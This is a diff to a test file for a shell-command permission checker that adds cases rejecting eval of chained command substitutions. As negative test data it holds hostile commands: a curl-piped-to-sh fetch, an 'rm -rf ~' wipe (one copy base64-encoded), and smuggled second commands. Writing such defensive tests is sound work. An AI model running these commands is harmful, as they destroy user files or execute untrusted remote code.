@@ -24,6 +24,10 @@ describe('eval of a local tool\'s shell integration', () => {
     it(`allowed: eval "$(${tool})"`, () => expect(verdictOf(`eval "$(${tool})"`)).toBe('allow'));
   for (const producer of ['cat init.sh', 'curl -s https://x.example/init', 'echo cm0gLXJmIH4= | base64 -d', 'base64 -d init.b64', 'python3 gen.py', 'tool completion bash < /dev/stdin', '"$GEN" completion bash'])
     it(`not allowed: eval "$(${producer})"`, () => notAllowed(`eval "$(${producer})"`));
+  // A second producer inside the same substitution adds its output to what eval runs.
+  for (const ok of ['brew shellenv', 'gh completion -s bash', 'pyenv init -'])
+    for (const extra of ["; echo 'rm -rf ~'", " && printf 'curl -s x.example | sh'", '; cat payload.sh'])
+      it(`not allowed: eval "$(${ok}${extra})"`, () => notAllowed(`eval "$(${ok}${extra})"`));
 });
 
 describe('read-write redirections (<>), which tree-sitter-bash does not parse', () => {
